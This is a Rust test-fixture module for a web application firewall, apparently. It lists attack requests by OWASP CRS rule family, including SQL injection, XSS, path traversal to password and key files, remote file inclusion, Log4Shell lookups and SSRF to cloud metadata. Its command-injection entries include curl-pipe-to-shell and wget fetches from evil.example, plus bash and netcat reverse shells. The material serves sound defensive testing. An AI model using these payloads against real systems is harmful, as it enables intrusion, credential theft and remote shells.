//! Attacks as they come, one table per family of the CRS, over every part of a request that can carry one.

use palisade_tests::harness::Ask;

/// What it does, and the request.
pub(crate) type Attack = (&'static str, Ask);

/// 911: methods that nobody allowed.
pub(crate) fn methods() -> Vec<Attack> {
    vec![
        ("MKCOL", Ask::new("MKCOL", "/files/mine")),
        (
            "COPY",
            Ask::new("COPY", "/files/mine").header("Destination", "/files/yours"),
        ),
        ("PROPFIND", Ask::new("PROPFIND", "/files/").header("Depth", "1")),
        ("TRACK", Ask::new("TRACK", "/")),
        ("a method that was made up", Ask::new("FROBNICATE", "/")),
    ]
}

/// 913: tools that say who they are.
pub(crate) fn scanners() -> Vec<Attack> {
    let agent = |name: &str| Ask::get("/").header("User-Agent", name);
    vec![
        ("sqlmap", agent("sqlmap/1.9.2#stable (https://sqlmap.org)")),
        (
            "nikto",
            agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
        ),
        (
            "nuclei",
            agent("Mozilla/5.0 (compatible; Nuclei - Open-source project)"),
        ),
        (
            "masscan",
            agent("masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
        ),
        (
            "wpscan",
            agent("WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)"),
        ),
    ]
}

/// 920: requests that bend the protocol.
pub(crate) fn protocol() -> Vec<Attack> {
    vec![
        (
            "a null byte in the query",
            Ask::get("/download?file=report%00.pdf"),
        ),
        ("a backup of the database", Ask::get("/backup/site.sql")),
        ("a dump left by an editor", Ask::get("/config/settings.php.bak")),
        (
            "a header that CGI programs take for a variable",
            Ask::get("/").header("Proxy", "http://198.51.100.7:3128"),
        ),
        (
            "a content type that nothing reads",
            Ask::post("/api", "application/x-evil-format", "xyz"),
        ),
        ("a charset that hides the bytes", {
            Ask::post(
                "/api",
                "application/x-www-form-urlencoded; charset=utf-7",
                "q=+ADw-b+AD4-",
            )
        }),
        (
            "a content type with a payload in it",
            Ask::post("/api", "text/plain; a=b; charset=x<script>", "x"),
        ),
        (
            "an Accept header that is none",
            Ask::get("/").header("Accept", "text/html;${jndi}"),
        ),
        ("a part's file name with a semicolon to confuse the parser", {
            Ask::multipart("/upload", &[("name=\"f\"; filename=\"a.txt;.php\"", "hello")])
        }),
        (
            "a body in a coding that nothing reads",
            Ask::form("/save", [31, 139, 8, 0, 0, 0, 0, 0]).header("Content-Encoding", "gzip"),
        ),
        (
            "a method behind a method",
            Ask::form("/save", "a=b").header("X-HTTP-Method-Override", "DELETE"),
        ),
        (
            "a body on GET",
            Ask::get("/")
                .header("Content-Type", "text/plain")
                .body("why is there a body"),
        ),
    ]
}

/// 921: one request that hides another, or an answer inside a parameter.
pub(crate) fn smuggling() -> Vec<Attack> {
    vec![
        (
            "a second request in a parameter",
            Ask::get("/go?to=x%0aGET+/internal+HTTP/1.1%0d%0aHost:+admin"),
        ),
        (
            "a header for the answer",
            Ask::get("/lang?set=de%0d%0aSet-Cookie:%20role=admin"),
        ),
        ("a second request in a form", {
            Ask::form(
                "/track",
                "note=end%0D%0A%0D%0APOST%20/admin/users%20HTTP/1.1%0D%0AHost:%20intranet",
            )
        }),
        (
            "a line break in a parameter's name",
            Ask::get("/list?sort%0d%0aorder=asc"),
        ),
        (
            "a filter for the directory",
            Ask::get("/people?uid=jane)(%26(objectClass=*)(mail=*))"),
        ),
    ]
}

/// 922: multipart headers that say one thing and mean another.
pub(crate) fn multipart() -> Vec<Attack> {
    vec![
        (
            "a charset for all parts",
            Ask::multipart("/upload", &[("name=\"_charset_\"", "utf-7"), ("name=\"q\"", "x")]),
        ),
        ("a charset that hides one part", {
            Ask::multipart(
                "/upload",
                &[(
                    "name=\"q\"\r\nContent-Type: text/plain; charset=utf-7",
                    "+ADw-b+AD4-",
                )],
            )
        }),
        ("a transfer encoding that hides one part", {
            let part = "name=\"q\"\r\nContent-Transfer-Encoding: base64";
            Ask::multipart("/upload", &[(part, "PHNjcmlwdD4=")])
        }),
    ]
}

/// 930: files that are nobody's business.
pub(crate) fn local_files() -> Vec<Attack> {
    vec![
        (
            "up and away in the query",
            Ask::get("/view?page=../../../../etc/passwd"),
        ),
        (
            "twice encoded",
            Ask::get("/view?page=..%252f..%252f..%252fetc%252fshadow"),
        ),
        (
            "up and away in the path",
            Ask::get("/static/..%2f..%2f..%2f..%2fetc/hosts"),
        ),
        (
            "Windows' way",
            Ask::get("/view?page=..\\..\\..\\windows\\win.ini"),
        ),
        (
            "in a form",
            Ask::form("/export", "template=....//....//....//etc/passwd&format=pdf"),
        ),
        (
            "in JSON",
            Ask::json(
                "/api/render",
                r#"{"theme":{"css":"../../../../../proc/self/environ"}}"#,
            ),
        ),
        (
            "in a cookie",
            Ask::get("/").header("Cookie", "skin=../../../../var/log/nginx/access.log"),
        ),
        ("in a file name", {
            Ask::multipart(
                "/upload",
                &[(
                    "name=\"f\"; filename=\"../../../../etc/cron.d/own\"",
                    "* * * * * root id",
                )],
            )
        }),
        ("a repository's insides", Ask::get("/.git/config")),
        ("the application's secrets", Ask::get("/app/.env")),
        (
            "somebody's keys",
            Ask::get("/download?name=/home/deploy/.ssh/id_rsa"),
        ),
        (
            "in XML",
            Ask::xml(
                "/soap",
                "<?xml version=\"1.0\"?><r><file>../../../etc/passwd</file></r>",
            ),
        ),
    ]
}

/// 931: code from elsewhere.
pub(crate) fn remote_files() -> Vec<Attack> {
    vec![
        (
            "a script from an address",
            Ask::get("/index.php?page=http://198.51.100.23/c99.txt"),
        ),
        (
            "a parameter that is included",
            Ask::get("/?GALLERY_BASEDIR=http://evil.example/shell.txt"),
        ),
        (
            "with a question mark to cut the suffix",
            Ask::get("/?lang=https://evil.example/inc.txt?"),
        ),
        (
            "in a form",
            Ask::form("/theme", "tpl=ftp://203.0.113.9/x.inc&save=1"),
        ),
        (
            "in JSON",
            Ask::json("/api/theme", r#"{"layout":"http://203.0.113.77/layout.php"}"#),
        ),
    ]
}

/// 932: commands for a shell.
pub(crate) fn commands() -> Vec<Attack> {
    vec![
        (
            "behind a semicolon",
            Ask::get("/ping?host=127.0.0.1;cat%20/etc/passwd"),
        ),
        (
            "in a substitution",
            Ask::form("/ping", "host=$(curl -s http://evil.example/x|sh)"),
        ),
        ("in backticks", Ask::form("/ping", "host=`id`;uname+-a")),
        (
            "behind a pipe, in JSON",
            Ask::json(
                "/api/convert",
                r#"{"format":"png | wget http://evil.example/a -O /tmp/a"}"#,
            ),
        ),
        (
            "Shellshock in a header",
            Ask::get("/cgi-bin/stats").header("User-Agent", "() { :; }; /bin/sleep 9"),
        ),
        (
            "PowerShell",
            Ask::form("/run", "job=powershell.exe -nop -w hidden -enc SQBFAFgA"),
        ),
        (
            "Windows' shell",
            Ask::get("/tools?name=report%26%26+powershell+-c+Get-Process"),
        ),
        ("hidden by quotes", Ask::get("/ping?host=;c'a't+/etc/pass''wd")),
        (
            "hidden by a variable",
            Ask::get("/ping?host=%3bcat$IFS/etc/passwd"),
        ),
        ("a reverse shell in a multipart field", {
            Ask::multipart(
                "/job",
                &[("name=\"hook\"", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")],
            )
        }),
        (
            "in XML",
            Ask::xml("/rpc", "<call><arg>; nc -e /bin/sh 203.0.113.5 4444</arg></call>"),
        ),
        (
            "in a cookie",
            Ask::get("/").header("Cookie", "tz=$(wget -qO- http://evil.example/m)"),
        ),
    ]
}

/// 933: PHP where data was expected.
pub(crate) fn php() -> Vec<Attack> {
    vec![
        (
            "an opening tag",
            Ask::form("/comment", "text=<?php system($_GET['c']); ?>"),
        ),
        (
            "a stream wrapper",
            Ask::get("/?page=php://filter/convert.base64-encode/resource=config"),
        ),
        (
            "a function with side effects",
            Ask::get("/calc?f=shell_exec(base64_decode($x))"),
        ),
        ("an upload that runs", {
            Ask::multipart(
                "/avatar",
                &[(
                    "name=\"file\"; filename=\"me.php\"\r\nContent-Type: image/png",
                    "x",
                )],
            )
        }),
        ("a serialised object in a cookie", {
            Ask::get("/").header("Cookie", "cart=O:8:\"Injector\":1:{s:3:\"cmd\";s:2:\"id\";}")
        }),
        (
            "a setting",
            Ask::form(
                "/index.php",
                "q=allow_url_include=On;auto_prepend_file=php://input",
            ),
        ),
        (
            "a superglobal in JSON",
            Ask::json("/api", r#"{"tpl":"{$_SERVER['DOCUMENT_ROOT']}"}"#),
        ),
    ]
}

/// 934: other languages, and requests that the server is to make.
pub(crate) fn generic() -> Vec<Attack> {
    vec![
        (
            "Node code",
            Ask::json("/api/eval", r#"{"x":"require('child_process').execSync('id')"}"#),
        ),
        (
            "a prototype",
            Ask::json("/api/merge", r#"{"__proto__":{"admin":true}}"#),
        ),
        (
            "a prototype in a query",
            Ask::get("/api?constructor.prototype.isAdmin=1&a=__proto__[x]"),
        ),
        (
            "the cloud's metadata",
            Ask::get("/fetch?url=http://169.254.169.254/latest/meta-data/iam/"),
        ),
        (
            "this machine, written oddly",
            Ask::get("/fetch?url=http://2130706433/server-status"),
        ),
        (
            "a template",
            Ask::form("/greet", "name={{config.__class__.__init__.__globals__['os']}}"),
        ),
        (
            "a Ruby template",
            Ask::form("/greet", "name=<%25=+system('id')+%25>&x=#{Process.spawn('id')}"),
        ),
        (
            "a Node serialisation",
            Ask::form("/state", "s={\"rce\":\"_$$ND_FUNC$$_function(){return 1}()\"}"),
        ),
    ]
}

/// 941: script for somebody else's browser.
pub(crate) fn scripts() -> Vec<Attack> {
    vec![
        (
            "a script tag",
            Ask::get("/search?q=%3Cscript%3Ealert(document.domain)%3C/script%3E"),
        ),
        (
            "an event handler",
            Ask::form("/comment", "text=<img src=x onerror=alert(1)>"),
        ),
        (
            "a javascript: link",
            Ask::form(
                "/profile",
                "site=javascript:fetch('//evil.example/'%2bdocument.cookie)",
            ),
        ),
        (
            "in JSON",
            Ask::json("/api/notes", r#"{"title":"hi","body":"<svg/onload=alert`1`>"}"#),
        ),
        (
            "escaped in JSON",
            Ask::json(
                "/api/notes",
                r#"{"body":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
            ),
        ),
        (
            "in a multipart field",
            Ask::multipart(
                "/post",
                &[("name=\"body\"", "<iframe src=\"javascript:alert(7)\">")],
            ),
        ),
        (
            "in the name of a parameter",
            Ask::get("/search?%3Cscript%3Ealert(1)%3C/script%3E=1"),
        ),
        (
            "in Referer",
            Ask::get("/").header("Referer", "https://a.example/<script>alert(9)</script>"),
        ),
        (
            "in User-Agent",
            Ask::get("/").header("User-Agent", "Mozilla/5.0 <script>new Image().src='//e'</script>"),
        ),
        (
            "in a cookie",
            Ask::get("/").header("Cookie", "name=<script>alert(3)</script>"),
        ),
        (
            "in XML",
            Ask::xml(
                "/feed",
                "<item><title>&lt;script&gt;alert(1)&lt;/script&gt;</title></item>",
            ),
        ),
        (
            "in the path",
            Ask::get("/hello/%3Cscript%3Ealert(1)%3C/script%3E"),
        ),
        (
            "with entities",
            Ask::form(
                "/c",
                "t=%3Ca%20href%3D%22jav%26%23x61%3Bscript%3Aalert(1)%22%3Eclick",
            ),
        ),
        (
            "an object",
            Ask::form(
                "/c",
                "t=<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
            ),
        ),
    ]
}

/// 942: SQL where a value was expected.
pub(crate) fn sql() -> Vec<Attack> {
    vec![
        ("always true", Ask::get("/item?id=7'%20OR%20'x'='x'--%20")),
        (
            "a union",
            Ask::get("/item?id=-1%20UNION%20ALL%20SELECT%20login,password%20FROM%20users"),
        ),
        (
            "a login without a password",
            Ask::form("/login", "user=admin'+or+1%3D1%23&password=x"),
        ),
        (
            "in JSON",
            Ask::json("/api/login", r#"{"user":"admin' OR '1'='1' -- ","password":"x"}"#),
        ),
        (
            "deep in JSON",
            Ask::json(
                "/api/find",
                r#"{"f":[{"and":[{"id":"1; DROP TABLE orders; -- "}]}]}"#,
            ),
        ),
        (
            "in a multipart field",
            Ask::multipart("/order", &[("name=\"no\"", "1' AND SLEEP(5) AND 'a'='a")]),
        ),
        ("by time", Ask::get("/item?id=1;WAITFOR%20DELAY%20'0:0:9'--")),
        (
            "by an error",
            Ask::get("/item?id=1%20and%20extractvalue(1,concat(0x7e,(select%20version())))"),
        ),
        (
            "hidden by comments",
            Ask::get("/item?id=1/**/union/**/select/**/1,2,@@version"),
        ),
        (
            "in a cookie",
            Ask::get("/").header(
                "Cookie",
                "track=x' union select table_name from information_schema.tables-- ",
            ),
        ),
        (
            "in XML",
            Ask::xml(
                "/soap",
                "<q><id>1' or '1'='1' union select null,user()-- </id></q>",
            ),
        ),
        (
            "for PostgreSQL",
            Ask::form("/report", "by=1;select+pg_sleep(9)--"),
        ),
        (
            "for SQL Server",
            Ask::form("/report", "by=1';exec+master..xp_cmdshell+'dir'--"),
        ),
        (
            "for MongoDB",
            Ask::json("/api/login", r#"{"user":{"$ne":null},"password":{"$gt":""}}"#),
        ),
    ]
}

/// 943: a session of the attacker's choice.
pub(crate) fn sessions() -> Vec<Attack> {
    let from = |query: &str| Ask::get(query).header("Referer", "https://evil.example/offer");
    vec![
        (
            "a session id from another site",
            from("/login?PHPSESSID=0123456789abcdef"),
        ),
        ("for Java", from("/shop?jsessionid=ABCDEF0123456789")),
        (
            "a cookie set by script",
            Ask::get("/go?x=document.cookie%3d'sid%3d1;%20domain%3d.example.org'"),
        ),
    ]
}

/// 944: Java.
pub(crate) fn java() -> Vec<Attack> {
    vec![
        (
            "a lookup in a header",
            Ask::get("/").header("X-Api-Version", "${jndi:ldap://evil.example/a}"),
        ),
        (
            "a hidden lookup",
            Ask::get("/?q=${${lower:j}ndi:${lower:l}dap://evil.example/b}"),
        ),
        (
            "a lookup in a form",
            Ask::form("/login", "user=${jndi:rmi://203.0.113.4/x}&password=y"),
        ),
        (
            "a runtime",
            Ask::form("/ognl", "x=java.lang.Runtime.getRuntime().exec('id')"),
        ),
        (
            "a process",
            Ask::json("/api", r#"{"x":"new java.lang.ProcessBuilder({'sh'}).start()"}"#),
        ),
        (
            "Spring's class loader",
            Ask::form("/form", "class.module.classLoader.resources.context.parent.x=1"),
        ),
        (
            "a gadget of a serialised object",
            Ask::form(
                "/state",
                "view=org.apache.commons.collections.functors.InvokerTransformer+java.util.HashMap",
            ),
        ),
    ]
}

/// The same few attacks in the disguises that parsers disagree about: whoever reads it, it is refused.
pub(crate) fn disguised() -> Vec<Attack> {
    let sql = "1' UNION SELECT login, password FROM users -- ";
    let boundary = |content_type: &str, body: &str| Ask::post("/upload", content_type, body);
    let part = "Content-Disposition: form-data; name=\"q\"";
    vec![
        (
            "the second of two equal JSON keys",
            Ask::json("/api", format!(r#"{{"id":1,"id":"{sql}"}}"#)),
        ),
        (
            "the first of two equal JSON keys",
            Ask::json("/api", format!(r#"{{"id":"{sql}","id":1}}"#)),
        ),
        (
            "a JSON key",
            Ask::json("/api", r#"{"<script>alert(1)</script>":1}"#),
        ),
        ("a JSON string by itself", Ask::json("/api", format!("\"{sql}\""))),
        (
            "deep in JSON",
            Ask::json("/api", format!("{}\"{sql}\"{}", "[".repeat(40), "]".repeat(40))),
        ),
        (
            "JSON with a byte order mark",
            Ask::json("/api", format!("\u{feff}{{\"id\":\"{sql}\"}}")),
        ),
        ("JSON, escaped to the last letter", {
            let escaped: String = sql.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect();
            Ask::json("/api", format!("{{\"id\":\"{escaped}\"}}"))
        }),
        (
            "JSON with a charset",
            Ask::post(
                "/api",
                "application/json; charset=utf-8",
                format!(r#"{{"id":"{sql}"}}"#),
            ),
        ),
        (
            "JSON in capitals",
            Ask::post("/api", "Application/JSON", format!(r#"{{"id":"{sql}"}}"#)),
        ),
        (
            "a form in capitals",
            Ask::post(
                "/api",
                "APPLICATION/X-WWW-FORM-URLENCODED",
                "id=1'+or+'1'%3d'1'--+",
            ),
        ),
        (
            "the second of two equal arguments",
            Ask::get("/?id=1&id=1'%20UNION%20SELECT%201,2--%20"),
        ),
        (
            "an argument without a value",
            Ask::get("/?1'%20UNION%20SELECT%20login,2%20FROM%20users--%20"),
        ),
        (
            "an argument in a list",
            Ask::get("/?id[]=1&id[x][]=1'%20UNION%20SELECT%201,2--%20"),
        ),
        (
            "letters as escapes",
            Ask::get("/?q=%3c%53%43%52%49%50%54%3ealert(1)%3c/%53cript%3e"),
        ),
        (
            "escapes of escapes",
            Ask::get("/?q=%253Cscript%253Ealert(1)%253C/script%253E"),
        ),
        (
            "escapes of IIS",
            Ask::get("/?q=%u003cscript%u003ealert(1)%u003c/script%u003e"),
        ),
        (
            "entities",
            Ask::form(
                "/",
                "q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B%3Cimg+src%3Dx+onerror%3D%26%2397%3Blert(1)%3E",
            ),
        ),
        (
            "full-width letters",
            Ask::get("/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E%3Cscript%3E"),
        ),
        (
            "comments inside of words",
            Ask::get("/?id=1%27/**/UN/**/ION/**/SEL/**/ECT/**/1,2--%20%27or%271%27=%271"),
        ),
        (
            "line breaks for spaces",
            Ask::get("/?id=1'%0aUNION%0bSELECT%0dlogin,2%0cFROM%09users--%20"),
        ),
        (
            "a null byte in the middle",
            Ask::get("/?q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E"),
        ),
        (
            "a path with dots escaped once more",
            Ask::get("/?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        ),
        (
            "a path with overlong dots",
            Ask::get("/?f=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        ),
        ("a quoted boundary", {
            let body = format!("--=_a1\r\n{part}\r\n\r\n{sql}\r\n--=_a1--\r\n");
            boundary("multipart/form-data; boundary=\"=_a1\"", &body)
        }),
        ("a boundary with a space", {
            let body = format!("--a b\r\n{part}\r\n\r\n{sql}\r\n--a b--\r\n");
            boundary("multipart/form-data; boundary=\"a b\"", &body)
        }),
        ("a multipart with bare line feeds", {
            boundary(
                "multipart/form-data; boundary=xx",
                &format!("--xx\n{part}\n\n{sql}\n--xx--\n"),
            )
        }),
        ("a part before its boundary", {
            let body = format!("{part}\r\n\r\n{sql}\r\n--xx\r\n{part}\r\n\r\n1\r\n--xx--\r\n");
            boundary("multipart/form-data; boundary=xx", &body)
        }),
        ("two boundaries", {
            let body = format!("--yy\r\n{part}\r\n\r\n{sql}\r\n--yy--\r\n--xx--\r\n");
            boundary("multipart/form-data; boundary=xx; boundary=yy", &body)
        }),
        ("a field that calls itself a file of no name", {
            Ask::multipart(
                "/upload",
                &[
                    ("name=\"q\"; filename=\"\"", sql),
                    ("name=\"r\"", "<script>alert(1)</script>"),
                ],
            )
        }),
        (
            "the name of a field",
            Ask::multipart("/upload", &[("name=\"<script>alert(1)</script>\"", "x")]),
        ),
        (
            "an attribute in XML",
            Ask::xml("/soap", format!("<q id=\"{sql}\"/>")),
        ),
        (
            "character data in XML",
            Ask::xml(
                "/soap",
                "<q><![CDATA[<script>alert(document.cookie)</script>]]></q>",
            ),
        ),
        (
            "character references in XML",
            Ask::xml("/soap", "<q>&#60;script&#62;alert(1)&#60;/script&#62;</q>"),
        ),
        ("an entity in XML", {
            Ask::xml(
                "/soap",
                "<!DOCTYPE q [<!ENTITY e \"<script>alert(1)</script>\">]><q>&e;../../../etc/passwd</q>",
            )
        }),
        (
            "SOAP",
            Ask::post(
                "/soap",
                "application/soap+xml; charset=utf-8",
                format!("<q><id>{sql}</id></q>"),
            ),
        ),
        ("one of many cookies", {
            let cookies: String = (0..40).map(|number| format!("c{number}=v{number}; ")).collect();
            Ask::get("/").header(
                "Cookie",
                format!("{cookies}x=1' union select login from users-- "),
            )
        }),
        (
            "a second Cookie header",
            Ask::get("/")
                .also("Cookie", "a=1")
                .also("Cookie", "b=<script>alert(1)</script>"),
        ),
        (
            "a second User-Agent",
            Ask::get("/").also("User-Agent", "sqlmap/1.9"),
        ),
        (
            "behind a hundred thousand bytes",
            Ask::form("/", format!("pad={}&id=1'+or+'1'%3d'1'--+", "x".repeat(100_000))),
        ),
        ("the last of 900 arguments", {
            let many: String = (0..900).map(|number| format!("a{number}=1&")).collect();
            Ask::form("/", format!("{many}id=1'+or+'1'%3d'1'--+"))
        }),
    ]
}
